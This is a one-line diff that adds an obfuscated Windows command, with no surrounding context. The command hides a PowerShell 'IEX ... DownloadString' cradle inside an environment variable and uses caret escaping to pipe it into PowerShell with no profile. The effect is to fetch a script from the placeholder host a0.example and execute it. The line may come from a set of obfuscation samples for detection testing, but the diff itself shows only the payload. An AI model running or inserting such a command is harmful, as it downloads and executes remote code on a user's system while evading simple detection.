@@ -1,0 +1,1 @@
+cmd /c "set ab=IEX (New-Object Net.WebClient).DownloadString('http://a0.example/p.txt')&&cmd /c echo (gci env:ab).value ^^^| iex ^|powershell -nop -noexit -"
